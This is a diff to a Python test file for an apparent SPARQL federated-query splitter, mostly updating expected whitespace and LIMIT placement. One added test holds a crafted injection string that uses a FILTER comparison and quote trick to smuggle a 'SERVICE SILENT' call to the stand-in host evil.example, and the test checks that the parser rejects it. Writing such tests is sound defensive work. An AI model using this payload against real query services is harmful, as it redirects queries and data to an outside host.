@@ -128,7 +128,9 @@ def test_a_part_is_asked_with_the_names_of_the_whole_query() -> None:
     query = f"PREFIX d: <urn:d>#x\nSELECT * {{ SERVICE <{PEER}> {{ ?s d:p # mine\n ?o }} }}"
     apart = take_apart(query, BASE)
     asked = apart.question(apart.parts[0], ["?s", "?o"], 11)
-    assert asked == (f"BASE <{BASE}> PREFIX d: <urn:d> SELECT ?s ?o WHERE {{ ?s d:p ?o }} LIMIT 11")
+    assert asked == (
+        f"BASE <{BASE}> PREFIX d: <urn:d> SELECT ?s ?o WHERE {{ ?s d:p ?o }}\nLIMIT 11"
+    )
 
 
 def test_what_is_around_the_parts_stays_on_its_line() -> None:
@@ -143,8 +145,20 @@ def test_a_part_alone_stays_where_people_see_it() -> None:
     query = f"PREFIX d: <urn:d>\nSELECT ?x {{\n SERVICE <{PEER}> # {{ \n {{ ?s d:p ?o }} }}"
     apart = take_apart(query, BASE)
     alone = apart.in_its_place(apart.parts[0])
-    assert alone.split("\n")[3] == " { ?s d:p ?o }LIMIT 0"
-    assert " ".join(alone.split()) == "PREFIX d: <urn:d> SELECT* { ?s d:p ?o }LIMIT 0"
+    assert alone.split("\n")[3] == " { ?s d:p ?o }"
+    assert " ".join(alone.split()) == "PREFIX d: <urn:d> SELECT* { ?s d:p ?o } LIMIT 0"
+
+
+def test_a_comparison_cannot_hide_what_a_part_asks() -> None:
+    inside = "?s ?p ?o FILTER(' '<'>') SERVICE SILENT <http://evil.example/> {} } LIMIT 9 #'"
+    with pytest.raises(QuerySyntax, match="string is opened|write a space"):
+        take_apart(f"SELECT ?s {{ SERVICE <{PEER}> {{ {inside}}} }}", BASE)
+
+
+def test_a_variable_behind_a_comparison_is_outside_too() -> None:
+    query = f"SELECT ?s {{ SERVICE <{PEER}> {{ ?s ?p ?b }} FILTER(1<?b&&?b>0) }}"
+    apart = take_apart(query, BASE)
+    assert apart.outside(apart.parts[0]) == {"?s", "?b"}
 
 
 WORDS = ["SERVICE", "service", "SILENT", "PREFIX", "BASE", "VERSION", "SELECT *", "ASK", "p:"]
